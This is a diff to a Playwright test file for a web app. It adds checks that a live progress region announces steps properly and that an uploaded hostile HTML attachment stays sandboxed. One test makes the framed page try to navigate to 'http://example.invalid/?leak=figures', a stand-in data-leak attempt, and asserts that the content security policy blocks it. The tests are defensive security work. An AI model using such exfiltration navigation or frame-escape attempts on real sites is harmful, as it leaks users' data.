@@ -1,5 +1,6 @@
 """Pages in a browser: nothing blocked, legible in both schemes, whole on a phone, with and without scripts."""
 
+import json
 import sqlite3
 from collections.abc import Callable
 from pathlib import Path
@@ -86,7 +87,9 @@ def test_a_calculation_is_filled_sent_and_read_without_scripts(visit: Visit) -> 
 def test_a_live_run_shows_a_check_as_soon_as_it_is_recorded(visit: Visit, site: Site) -> None:
     page = visit("vera")
     page.goto(f"/runs/{site.running}/")
-    assert "2 of 13 checks done" in page.inner_text("#progress [role=status]")
+    assert "2 of 13 checks done" in page.inner_text("#progress h2")
+    page.evaluate("document.getElementById('step').dataset.first = 'yes'")
+    page.focus("#cancel-run")
     with sqlite3.connect(site.var_dir / "mrm.sqlite3", timeout=20) as database:
         database.execute(
             "INSERT INTO validation_check_record"
@@ -94,7 +97,54 @@ def test_a_live_run_shows_a_check_as_soon_as_it_is_recorded(visit: Visit, site: 
             " SELECT run_id, 'drift.score', 1, 9, 'Score drift', 'pass', result, recorded_at"
             " FROM validation_check_record LIMIT 1"
         )
-    expect(page.locator("#progress [role=status]")).to_contain_text("3 of 13", timeout=8000)
+    expect(page.locator("#progress h2")).to_contain_text("3 of 13", timeout=8000)
+    # The region that announces is still the same element: it hears of the step and not of each renewal.
+    expect(page.locator("#step[data-first=yes][role=status]")).to_contain_text("3 of 13")
+    assert page.locator("#step").count() == 1
+    assert page.evaluate("document.activeElement.id") == "cancel-run"
+
+
+EXPECTED = {
+    "ran": "yes",
+    **dict.fromkeys(("cookie", "storage", "parent", "top", "deface", "fetch", "image"), "refused"),
+    "origin": "null",
+    "popup": "false",
+}
+
+
+def test_a_hostile_attachment_runs_shut_in(visit: Visit, site: Site) -> None:
+    page = visit("vera")
+    page.goto(site.hostile)
+    address, title = page.url, page.title()
+    frame = page.frame_locator("iframe.attachment")
+    expect(frame.locator("#out")).not_to_be_empty(timeout=8000)
+    told = json.loads(frame.locator("#out").inner_text())
+    assert {name: told.get(name) for name in EXPECTED} == EXPECTED
+    # Its form and its attempt to lead the whole page elsewhere came to nothing; the session still holds.
+    assert (page.url, page.title()) == (address, title)
+    page.goto("/models/")
+    assert "Sign out" in page.inner_text("body")
+
+
+def test_a_hostile_attachment_cannot_be_opened_alone_only_kept(visit: Visit, site: Site) -> None:
+    page = visit("vera")
+    page.goto("/models/")
+    with page.expect_download() as kept:
+        page.evaluate("address => { location.href = address; }", f"{site.hostile}content/")
+    assert kept.value.suggested_filename == "evidently-drift.html"
+    assert "Model inventory" in page.inner_text("h1")
+
+
+def test_a_hostile_attachment_cannot_leave_its_frame_for_another_site(visit: Visit, site: Site) -> None:
+    page = visit("vera")
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.goto(site.hostile)
+    expect(page.frame_locator("iframe.attachment").locator("#out")).not_to_be_empty(timeout=8000)
+    (frame,) = page.frames[1:]
+    with page.expect_console_message(lambda said: "frame-src" in said.text, timeout=8000):
+        frame.evaluate("() => { location.href = 'http://example.invalid/?leak=figures'; }")
+    assert not [url for url in asked if "example.invalid" in url]
 
 
 def test_the_contrast_check_sees_faint_text(visit: Visit) -> None:
